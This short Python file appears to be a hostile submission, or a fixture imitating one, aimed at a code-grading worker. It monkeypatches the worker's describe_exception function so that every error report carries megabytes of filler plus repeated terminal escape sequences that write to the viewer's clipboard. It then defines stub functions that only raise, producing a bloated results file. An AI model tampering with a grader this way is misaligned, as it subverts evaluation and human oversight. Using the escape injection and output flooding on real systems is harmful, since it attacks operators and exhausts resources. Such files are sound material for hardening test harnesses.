# Take over how the worker describes an exception, then raise: 16 MB of type, class
# names, message (terminal escapes that write the clipboard) and source line for every
# call: a 302 MB results.json from one file.
import sys

worker = next(m for m in list(sys.modules.values())
              if callable(getattr(m, "serve", None)) and callable(getattr(m, "describe_exception", None)))
worker.describe_exception = lambda exc, filename: {
    "type": "T" * 2_000_000, "mro": ["ValueError", "M" * 100_000] * 40, "message": "\x1b]52;c;cHduZWQ=\x07" * 200_000,
    "where": "line 1: " + "W" * 2_000_000}


def scaled_scores():
    raise ValueError("no")


def attention_weights():
    raise ValueError("no")


def attention_output():
    raise ValueError("no")
